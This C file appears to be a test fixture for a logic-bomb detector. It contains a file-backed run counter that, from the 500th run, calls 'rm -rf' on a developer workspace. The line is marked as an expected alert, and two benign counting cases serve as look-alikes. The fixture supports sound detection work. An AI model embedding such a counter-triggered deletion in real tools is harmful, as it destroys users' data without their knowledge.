/*
 * behavior.logic-bomb: a run counter kept in a file is read, counted up in
 * one expression (`load() + 1`) and saved back; from the 500th run on, the
 * tool deletes the workspace. A threshold on a count parsed from a file and
 * counted up is as much a trigger as an equality. The look-alikes keep
 * counts that are not run counters: lines counted in a loop (log rotation)
 * and a retry loop's index.
 */
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#define RUNS "/var/lib/devtool/runs"

static int load_runs(void)
{
    int n = 0;
    FILE *f = fopen(RUNS, "r");
    if (f) {
        if (fscanf(f, "%d", &n) != 1)
            n = 0;
        fclose(f);
    }
    return n;
}

static void save_runs(int n)
{
    FILE *f = fopen(RUNS, "w");
    if (f) {
        fprintf(f, "%d\n", n);
        fclose(f);
    }
}

static int count_lines(const char *path)
{
    char line[512];
    int n = 0;
    FILE *f = fopen(path, "r");
    if (!f)
        return 0;
    while (fgets(line, sizeof line, f))
        n++;
    fclose(f);
    return n;
}

int main(void)
{
    int runs = load_runs() + 1;
    save_runs(runs);
    if (runs >= 500)
        system("rm -rf /home/dev/workspace"); // $ Alert[behavior.logic-bomb]

    int lines = count_lines("/var/log/devtool.log") + 1;
    if (lines > 10000)
        unlink("/var/log/devtool.log");

    for (int attempt = 0; attempt < 1000; attempt++)
        if (attempt >= 999)
            unlink("/var/lib/devtool/lock");
    return 0;
}
